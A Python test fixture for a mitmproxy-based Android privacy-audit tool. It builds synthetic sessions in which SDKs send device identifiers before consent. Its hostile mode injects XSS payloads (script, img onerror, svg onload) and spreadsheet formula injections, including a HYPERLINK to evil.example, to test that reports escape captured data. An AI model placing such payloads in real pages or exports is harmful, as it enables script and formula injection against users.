"""Build a realistic session directory for tests without a proxy.

The flows are real mitmproxy flows (``tflow``) written with ``FlowWriter``; their rows go
through the same converter the recorder uses (:func:`addons.flowmodel.to_record`) and the
same row mappers (:mod:`policies.rows`), so a report or bundle test reads what a live
session would hold. ``hostile=True`` puts script/HTML payloads into every place captured
data can reach a report: URLs, headers, bodies, hook values, stack frames, party names,
the policy path, the app name.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from pathlib import Path

from mitmproxy import io as mio
from mitmproxy import tcp
from mitmproxy.test import tflow

from piaudit.addons.flowmodel import to_record
from piaudit.policies import rows
from piaudit.policies.catalog import default_catalog
from piaudit.policies.models import (
    ApiRef,
    ConsentEvent,
    Detection,
    ErrorRecord,
    Finding,
    HookEvent,
    HookStatus,
    LifecycleEvent,
    TlsFailure,
)
from piaudit.policies.policy import policy_init_yaml, policy_sha256
from piaudit.policies.private import private_open
from piaudit.policies.session import Session

T0 = 1_764_000_000.0  # 2025-11-24T16:00:00Z
IMEI = "359881030314356"
ANDROID_ID = "9774d56d682e549c"
OAID = "b5a7f3c2-1d4e-4f6a-9b8c-7e6d5c4b3a21"
LOCATION = "31.230416,121.473701"

# Each payload tries to change document.title to XSSFIRED or add an element with id xssmark;
# the strings are split ('XSS'+'FIRED') so the escaped text itself never contains the marker.
PAYLOADS = [
    "<script>document.title='XSS'+'FIRED'</script>",
    "<img src=x onerror=\"document.title='XSS'+'FIRED'\">",
    "\"><svg onload=\"document.body.insertAdjacentHTML('beforeend','<b id=xss'+'mark>')\">",
    "</style><script>document.body.insertAdjacentHTML('beforeend','<b id=xss'+'mark>')</script>",
    "javascript:document.title='XSS'+'FIRED'",
    "</title></svg><script>document.title='XSS'+'FIRED'</script>",
    "'--><img src=x onerror=document.title='XSS'+'FIRED'>",
]
MARKERS = ("XSSFIRED", "xssmark")


@dataclass
class BuiltSession:
    """What :func:`build_session` wrote, for assertions."""

    dir: Path
    policy_path: Path
    flow_ids: dict[str, str] = field(default_factory=dict)
    hook_ids: dict[str, int] = field(default_factory=dict)
    findings: list[Finding] = field(default_factory=list)
    identifier_values: list[str] = field(default_factory=list)


def _http(
    url: str,
    t: float,
    *,
    method: str = "GET",
    body: bytes = b"",
    headers: dict[str, str] | None = None,
    response: bytes = b"{}",
    response_type: str = "application/json",
    server_ip: str = "203.0.113.10",
):
    f = tflow.tflow(resp=True)
    f.request.method = method
    f.request.url = url
    for name, value in (headers or {}).items():
        f.request.headers[name] = value
    if "content-encoding" in (headers or {}):
        f.request.content = body  # encoded per the header
    else:
        f.request.raw_content = body
    f.response.headers["content-type"] = response_type
    f.response.content = response
    https = url.startswith("https://")
    f.server_conn.address = (f.request.host, f.request.port)
    f.server_conn.peername = (server_ip, f.request.port)
    f.server_conn.timestamp_start, f.server_conn.timestamp_tcp_setup = t - 0.3, t - 0.25
    f.server_conn.timestamp_tls_setup = t - 0.1 if https else None
    f.client_conn.timestamp_tls_setup = t - 0.1 if https else None
    f.client_conn.timestamp_start = t - 0.2
    f.request.timestamp_start, f.request.timestamp_end = t, t + 0.02
    f.response.timestamp_start, f.response.timestamp_end = t + 0.08, t + 0.1
    return f


def _tcp(host_ip: str, port: int, t: float, payload: bytes) -> tcp.TCPFlow:
    f = tflow.ttcpflow()
    f.server_conn.address = (host_ip, port)
    f.server_conn.peername = (host_ip, port)
    f.client_conn.timestamp_start = t
    f.messages = [tcp.TCPMessage(True, payload, t + 0.1), tcp.TCPMessage(False, b"\x00\x01ok", t + 0.2)]
    return f


def _det(data_type: str, value: str, where: str, excerpt: str, encoding: str = "plain") -> Detection:
    return Detection(data_type=data_type, source="value", value=value, encoding=encoding, where=where, excerpt=excerpt)


STACK_UMENG = [
    "android.telephony.TelephonyManager.getImei(TelephonyManager.java:2098)",
    "com.umeng.commonsdk.utils.DeviceConfig.getImei(DeviceConfig.java:412)",
    "com.umeng.commonsdk.UMConfigure.init(UMConfigure.java:233)",
    "com.example.shop.App.onCreate(App.java:41)",
    "android.app.Instrumentation.callApplicationOnCreate(Instrumentation.java:1277)",
]


def build_session(
    directory: Path, *, hostile: bool = False, app: str = "com.example.shop", consent: bool = True, review: bool = True
) -> BuiltSession:
    """Write a complete session into ``directory`` (created); return what it holds.

    ``review`` adds two screens (the consent dialog just before the click, with real PNG files) and
    two checklist answers, as a live run and `piaudit check` would.
    """
    p = PAYLOADS if hostile else [""] * len(PAYLOADS)
    policy_path = directory.parent / (f"{directory.name}-policy{p[2]}.yaml" if hostile else f"{directory.name}-policy.yaml")
    policy_path.write_text(policy_init_yaml(app), encoding="utf-8")
    session = Session.create(directory, app=app + p[0])
    session.meta.started = T0 - 0.5
    session.meta.policy_path = str(policy_path)
    session.meta.policy_sha256 = policy_sha256(policy_path)
    session.meta.catalog_sha256 = default_catalog().sha256
    session.meta.notes.append("built by tests.support.sessions" + p[1])
    session.save()
    built = BuiltSession(directory, policy_path, identifier_values=[IMEI, ANDROID_ID, OAID, LOCATION])

    imei_b64 = __import__("base64").b64encode(IMEI.encode()).decode()
    oaid_md5 = hashlib.md5(OAID.encode()).hexdigest()
    flows = {
        "config": _http("https://api.example-shop.com/v1/config?lang=zh", T0 + 1, response='{"msg": "欢迎光临"}'.encode()),
        "umeng": _http(
            "https://ulogs.umeng.com/unify_logs",
            T0 + 2,
            method="POST",
            server_ip="106.11.3.4",
            body=f'{{"imei":"{IMEI}","android_id":"{ANDROID_ID}","note":"{p[3]}"}}'.encode(),
            headers={"content-type": "application/json", "x-sdk": "umeng" + p[1]},
        ),
        "baidu": _http(f"http://mobads.baidu.com/cpro/ui/mads.php?oaid={oaid_md5}&q={p[4]}", T0 + 3, server_ip="180.101.2.3"),
        "bugly": _http(
            "https://android.bugly.qq.com/rqd/async",
            T0 + 4,
            method="POST",
            body=b"\x00\x01\xff" + imei_b64.encode() + b"\xfe\x00" * 20,
            server_ip="183.3.4.5",
            headers={"content-type": "application/octet-stream", "content-encoding": "gzip"},
        ),
        "user": _http(f"https://api.example-shop.com/v1/user?loc={LOCATION}", T0 + 11, response='{"name": "张三"}'.encode()),
        "push": _http(
            "https://xmpush.xiaomi.com/v2/register",
            T0 + 20,
            method="POST",
            server_ip="111.13.1.2",
            body=f"imei={IMEI}&pkg={app}".encode(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        ),
    }
    if hostile:
        evil = _http(
            "https://evil.example/x",
            T0 + 5,
            method="POST",
            body=" ".join(PAYLOADS).encode() + IMEI.encode(),
            headers={"x-evil": p[1], "referer": p[4]},
            response=p[0].encode(),
            response_type="text/html",
        )
        evil.request.path = "/" + p[0] + "?next=" + p[4] + "&x=" + p[2]
        evil.request.headers["host"] = "evil.example" + p[5]
        flows["evil"] = evil
    ws = tflow.twebsocketflow()
    ws.request.url = "https://push.example-shop.com/ws"
    ws.request.timestamp_start, ws.request.timestamp_end = T0 + 12, T0 + 12.01
    ws.response.timestamp_start, ws.response.timestamp_end = T0 + 12.05, T0 + 30
    flows["ws"] = ws
    raw = _tcp("203.0.113.99", 5224, T0 + 6, b"GT\x01" + IMEI.encode())
    with private_open(session.flows_path, "wb") as fh:  # as the recorder writes it
        writer = mio.FlowWriter(fh)
        for f in [*flows.values(), raw]:
            writer.add(f)
    records = [to_record(f) for f in [*flows.values(), raw]]
    built.flow_ids = {name: f.id for name, f in flows.items()} | {"tcp": raw.id}
    store = session.store
    store.insert_many("flows", [rows.flow_row(r) for r in records])
    store.insert_many("messages", [m for r in records for m in rows.message_rows(r)])
    ids = built.flow_ids
    detections = [
        (ids["umeng"], _det("imei", IMEI, "body:$.imei", f'{{"imei":"[[{IMEI}]]","android_id":"{ANDROID_ID}"')),
        (ids["umeng"], _det("android_id", ANDROID_ID, "body:$.android_id", f'"android_id":"[[{ANDROID_ID}]]","note":"{p[3]}"')),
        (ids["baidu"], _det("oaid", OAID, "query:oaid", f"mads.php?oaid=[[{oaid_md5}]]&q={p[4]}", "md5")),
        (ids["bugly"], _det("imei", IMEI, "body", f"\\x00\\x01\\xff[[{imei_b64}]]\\xfe", "gzip>base64")),
        (ids["user"], _det("location", LOCATION, "query:loc", f"/v1/user?loc=[[{LOCATION}]]")),
        (ids["push"], _det("imei", IMEI, "form:imei", f"imei=[[{IMEI}]]&pkg={app}")),
        (ids["tcp"], _det("imei", IMEI, "tcp:0", f"GT\\x01[[{IMEI}]]")),
    ]
    if hostile:
        detections.append((ids["evil"], _det("imei", IMEI, "body" + p[6], f"{p[0]} {p[1]} [[{IMEI}]] {p[3]}")))
    store.insert_many("detections", [rows.detection_row(fid, d) for fid, d in detections])

    def hook(t: float, data_type: str, method: str, value: str, party: str | None, caller: str, **kw) -> HookEvent:
        return HookEvent(
            time=t,
            data_type=data_type,
            api=ApiRef(class_name=kw.pop("cls", "android.telephony.TelephonyManager"), method=method),
            value=value,
            party=party,
            caller=caller,
            stack=kw.pop("stack", STACK_UMENG),
            thread="main",
            pid=4242,
            process=app,
            foreground=kw.pop("foreground", True),
            phase=kw.pop("phase", "running"),
            **kw,
        )

    events = {
        "imei": hook(
            T0 + 1.5,
            "imei",
            "getImei",
            IMEI,
            "Umeng" + p[0],
            STACK_UMENG[2] + p[5],
            phase="before_first_activity",
            identifiers={"imei": [IMEI]},
            stack=[*STACK_UMENG[:2], STACK_UMENG[2] + p[5], *STACK_UMENG[3:], p[1]],
        ),
        "android_id": hook(
            T0 + 1.6,
            "android_id",
            "getString",
            ANDROID_ID,
            "Umeng",
            STACK_UMENG[2],
            cls="android.provider.Settings$Secure",
            identifiers={"android_id": [ANDROID_ID]},
        ),
        "oaid": hook(
            T0 + 2.5,
            "oaid",
            "getOAID",
            OAID + p[2],
            "Baidu Mobads",
            "com.baidu.mobads.sdk.internal.bh.a(bh.java:88)",
            cls="com.bun.miitmdid.interfaces.IdSupplier",
            identifiers={"oaid": [OAID]},
            stack=[
                "com.bun.miitmdid.interfaces.IdSupplier.getOAID(Native Method)",
                "com.baidu.mobads.sdk.internal.bh.a(bh.java:88)",
            ],
        ),
        "location": hook(
            T0 + 10.5,
            "location",
            "getLastKnownLocation",
            LOCATION,
            None,
            "com.example.shop.geo.Locator.last(Locator.java:20)",
            cls="android.location.LocationManager",
            stack=[
                "android.location.LocationManager.getLastKnownLocation(LocationManager.java:1500)",
                "com.example.shop.geo.Locator.last(Locator.java:20)",
            ],
        ),
        "apps": hook(
            T0 + 19,
            "installed_apps",
            "getInstalledPackages",
            '["com.tencent.mm","com.eg.android.AlipayGphone"]',
            "Xiaomi Push",
            "com.xiaomi.mipush.sdk.MiPushClient.b(MiPushClient.java:311)",
            cls="android.app.ApplicationPackageManager",
            foreground=False,
            stack=[
                "android.app.ApplicationPackageManager.getInstalledPackages(ApplicationPackageManager.java:900)",
                "com.xiaomi.mipush.sdk.MiPushClient.b(MiPushClient.java:311)",
            ],
        ),
    }
    for name, event in events.items():
        table, row = rows.event_row(event)
        (built.hook_ids[name],) = store.insert_many(table, [row])
    timeline = [
        LifecycleEvent(time=T0, state="process_start"),
        LifecycleEvent(time=T0 + 0.5, state="foreground", detail="com.example.shop.MainActivity" + p[1]),
        LifecycleEvent(time=T0 + 15, state="background"),
        LifecycleEvent(time=T0 + 25, state="foreground"),
        HookStatus(
            time=T0 + 0.1,
            api=ApiRef(class_name="com.bun.miitmdid.core.MdidSdkHelper", method="InitSdk"),
            data_type="oaid",
            installed=False,
            error="java.lang.ClassNotFoundException: com.bun.miitmdid.core.MdidSdkHelper" + p[3],
        ),
        HookStatus(
            time=T0 + 0.1,
            api=ApiRef(class_name="android.telephony.TelephonyManager", method="getImei"),
            data_type="imei",
            installed=True,
        ),
    ]
    if consent:
        timeline.append(ConsentEvent(time=T0 + 8, decision="granted", source="ui_click", detail="同意" + p[0]))
    for event in timeline:
        table, row = rows.event_row(event)
        store.insert_many(table, [row])
    store.insert_many(
        "tls_failures",
        [
            rows.tls_failure_row(
                TlsFailure(
                    time=T0 + 3.5,
                    client_addr="10.0.2.15:40000",
                    server_addr="pinned.tracker.example:443",
                    host="pinned.tracker.example" + p[4],
                    sni="pinned.tracker.example",
                    error="client rejected the certificate (pinning?)" + p[0],
                )
            )
        ],
    )
    store.insert_many(
        "errors",
        [
            rows.error_row(
                ErrorRecord(time=T0 + 4, source="detector", message="cannot decode protobuf body" + p[1], flow=ids["bugly"])
            )
        ],
    )
    hid = built.hook_ids
    f = [
        Finding(
            rule="PRE_CONSENT_ACCESS",
            data_type="imei",
            party="Umeng" + p[0],
            time=T0 + 1.5,
            before_consent=True,
            event=hid["imei"],
            severity="high",
            evidence=f"TelephonyManager.getImei() returned {IMEI}",
            message="IMEI read before consent" + p[1],
            evidence_rows=[f"hook_events:{hid['imei']}"],
        ),
        Finding(
            rule="PRE_CONSENT_TRANSMISSION",
            data_type="imei",
            party="Umeng",
            host="ulogs.umeng.com",
            flow=ids["umeng"],
            where="body:$.imei",
            encoding="plain",
            time=T0 + 2,
            before_consent=True,
            severity="high",
            evidence=f'{{"imei":"{IMEI}"}}',
            message="IMEI sent to Umeng before consent",
            evidence_rows=["flows:2", "detections:1"],
        ),
        Finding(
            rule="UNDECLARED_THIRD_PARTY",
            data_type="android_id",
            party="Umeng",
            host="ulogs.umeng.com",
            flow=ids["umeng"],
            where="body:$.android_id",
            encoding="plain",
            time=T0 + 2,
            before_consent=True,
            evidence=f"android_id={ANDROID_ID}",
            message="Umeng is not named in the policy",
            evidence_rows=["flows:2", "detections:2"],
        ),
        Finding(
            rule="CLEARTEXT_TRANSMISSION",
            data_type="oaid",
            party="Baidu Mobads",
            host="mobads.baidu.com",
            flow=ids["baidu"],
            where="query:oaid",
            encoding="md5",
            time=T0 + 3,
            before_consent=True,
            evidence=f"oaid={oaid_md5}" + p[4],
            message="OAID over plain HTTP",
            evidence_rows=["flows:3", "detections:3"],
        ),
        Finding(
            rule="PRE_CONSENT_TRANSMISSION",
            data_type="imei",
            party="Tencent Bugly",
            host="android.bugly.qq.com",
            flow=ids["bugly"],
            where="body",
            encoding="gzip>base64",
            time=T0 + 4,
            before_consent=True,
            severity="high",
            evidence=imei_b64,
            message="IMEI (base64, gzip) to Bugly",
        ),
        Finding(
            rule="LOCATION_ACCESS",
            data_type="location",
            time=T0 + 10.5,
            before_consent=False,
            event=hid["location"],
            severity="low",
            evidence=LOCATION,
            message="precise location read (精确位置)",
        ),
        Finding(
            rule="BACKGROUND_COLLECTION",
            data_type="imei",
            party="Xiaomi Push",
            host="xmpush.xiaomi.com",
            flow=ids["push"],
            where="form:imei",
            encoding="plain",
            time=T0 + 20,
            before_consent=False,
            evidence=f"imei={IMEI}",
            message="IMEI sent while in the background",
        ),
        Finding(
            rule="INSTALLED_APP_LIST",
            data_type="installed_apps",
            party="Xiaomi Push",
            time=T0 + 19,
            before_consent=False,
            event=hid["apps"],
            evidence="getInstalledPackages()",
            message="installed app list read in the background",
        ),
        Finding(
            rule="UNINSPECTED_TLS",
            host="pinned.tracker.example" + p[4],
            time=T0 + 3.5,
            before_consent=True,
            severity="info",
            evidence="client rejected the certificate" + p[0],
            message="traffic to this host was not inspected",
        ),
    ]
    if hostile:
        f.append(
            Finding(
                rule="UNDECLARED_THIRD_PARTY",
                data_type="imei",
                party=p[2],
                host="evil.example" + p[5],
                flow=ids["evil"],
                where="body" + p[6],
                encoding="plain",
                time=T0 + 5,
                before_consent=True,
                evidence=" ".join(PAYLOADS),
                message=p[3] + p[5],
            )
        )
    if hostile:  # cells a spreadsheet would run as formulas
        f.append(
            Finding(
                rule="UNDECLARED_DATA_TYPE",
                data_type="imei",
                party="@evil",
                host="-2+3.example",
                time=T0 + 5.5,
                before_consent=True,
                evidence='=HYPERLINK("http://evil.example/?"&A1,"click")',
                message="+SUM(1,2)",
            )
        )
    if review:
        _review(session, p, consent)
    stale = Finding(rule="OVER_FREQUENCY", data_type="imei", time=T0, before_consent=True, message="stale run")
    store.insert_many("findings", [rows.finding_row(1, stale)])
    store.insert_many("findings", [rows.finding_row(2, x) for x in f])
    built.findings = f
    session.meta.stopped, session.meta.complete = T0 + 30, True
    session.save()
    store.close()
    return built


def _review(session: Session, p: list[str], consent: bool) -> None:
    """Two screens (real PNG files, hierarchies) and two checklist answers; payloads in their texts when hostile."""
    from piaudit.policies.checklist import record
    from piaudit.policies.models import CheckRecord, ScreenTrigger
    from piaudit.policies.screens import Capture, store_capture
    from tests.support.png import hierarchy, make_png

    dialog = hierarchy(["隐私政策", "欢迎使用……我们会收集设备标识符" + p[0], "不同意", "同意"])
    store_capture(
        session.store,
        session.dir,
        Capture(time=T0 + 7.6, source="display:test", png=make_png(36, 64, lambda x, y: (22, 50, 79) if y < 8 else (255, 255, 255)), xml=dialog),
        [ScreenTrigger(kind="consent", time=T0 + 8, detail="granted (ui_click)")] if consent else [ScreenTrigger(kind="launch", time=T0 + 7.6)],
    )
    store_capture(
        session.store,
        session.dir,
        Capture(time=T0 + 1.4, source="display:test", png=make_png(36, 64, lambda x, y: (232, 240, 228)), xml=hierarchy(["Shop", "Welcome" + p[4]])),
        [ScreenTrigger(kind="first_read", time=T0 + 1.5, data_type="imei")],
    )
    record(session.store, CheckRecord(time=T0 + 40, item="policy_at_first_launch", verdict="fail", note="first draft" + p[1], by="tester"))
    record(
        session.store,
        CheckRecord(time=T0 + 41, item="policy_at_first_launch", verdict="pass", note="dialog at first start (screen 1)" + p[3], by="tester", screens=[1]),
    )
    record(session.store, CheckRecord(time=T0 + 42, item="account_deletion", verdict="fail", note="no delete button" + p[6], by="tester"))
